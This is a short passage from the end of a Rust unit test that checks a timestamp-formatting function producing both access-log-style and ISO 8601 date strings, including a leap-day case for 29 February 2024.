        assert!(stamp(START).1.starts_with("2026-11-26T"));
        assert_eq!(
            stamp(19_782 * 86_400 + 3_723),
            (
                "29/Feb/2024:01:02:03 +0000".into(),
                "2024-02-29T01:02:03+00:00".into()
            )
        );
    }
}
